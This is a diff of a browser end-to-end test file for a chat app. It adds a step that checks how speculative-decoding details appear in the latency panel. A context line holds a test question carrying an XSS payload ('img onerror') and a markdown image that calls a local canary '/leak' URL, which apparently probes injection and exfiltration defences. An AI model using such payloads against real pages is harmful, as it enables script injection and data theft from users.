@@ -539,6 +539,21 @@ try {
     await tid('nav-chat').click();
   });
 
+  await step('speculative decoding: the latency details say how the drafts went', async () => {
+    await server.api('PUT', '/api/settings', { ...(await server.api('GET', '/api/settings')), speculate: 4, spec_floor_pct: 0 });
+    await tid('nav-chat').click();
+    await tid('new-chat').click();
+    const QD = 'What does the river market sell?';
+    await ask(page, QD);
+    const t = await traceOf(server, QD, (x) => x.spec_note !== undefined);
+    console.log(`     ${t.spec_note}: ${t.accepted ?? 0} of ${t.drafted ?? 0} drafted tokens kept, route's acceptance ${t.draft_accept_rate ?? 'not yet measured'}`);
+    assert.match(t.spec_note, /^on: prompt lookup/);
+    await lastTurn().getByTestId('show-latency').click();
+    await page.waitForFunction(() => /^on: prompt lookup, up to 4 drafted tokens a step/.test(document.querySelector('[data-testid="detail-spec"]')?.textContent ?? ''));
+    await server.api('PUT', '/api/settings', { ...(await server.api('GET', '/api/settings')), speculate: 0, spec_floor_pct: 60 });
+    await tid('nav-chat').click();
+  });
+
   const QX = `What does the zanzibar ledger memo say? <img src=x onerror="window.__pwned='question'"> ![q](http://127.0.0.1:${canary.port}/leak?d=question)`;
   await step('typed question: its prompt is prefilled while typing and adopted on Enter', async () => {
     await tid('nav-chat').click();
